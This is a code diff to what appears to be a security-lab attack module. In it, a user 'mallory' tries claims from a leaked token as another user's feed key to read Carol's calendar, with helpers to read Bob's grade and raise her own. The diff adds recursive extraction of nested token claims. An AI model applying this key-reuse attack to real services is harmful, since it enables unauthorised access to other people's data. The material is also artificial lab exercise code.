@@ -2,6 +2,8 @@
 
 import csv
 import io
+from collections.abc import Iterator, Mapping
+from typing import Any
 from urllib.parse import quote
 
 from labkit.attacks.bearer import got, raise_own_grade, read_bobs_grade
@@ -78,8 +80,8 @@ def read_the_payload(site: Site) -> Verdict:
     own, _, own_key = site.as_mallory().get("/api/calendar").json()["address"].rpartition("=")
     address = own.replace("mallory", "carol")
     claims = Forgery.of(site.leak("forum log")["carol"]).claims
-    for name, key in claims.items():
-        if not isinstance(key, str) or len(key) != len(own_key):
+    for name, key in _texts(claims):
+        if len(key) != len(own_key):
             continue
         answer = site.client("mallory").get(f"{address}={quote(key)}")
         if answer.ok:
@@ -113,3 +115,12 @@ def _from_the_sandbox(site: Site, **area: str) -> Verdict:
     asked = Request.of_json("POST", "/api/token", told)
     token = got(site.client(at="sandbox").send(asked), "access_token")
     return read_bobs_grade(site, token) if token else held("The sandbox gives no token.")
+
+
+def _texts(claims: Mapping[str, Any]) -> Iterator[tuple[str, str]]:
+    """Yield every text in the claims with its name, those inside other claims too."""
+    for name, value in claims.items():
+        if isinstance(value, str):
+            yield name, value
+        elif isinstance(value, Mapping):
+            yield from _texts(value)
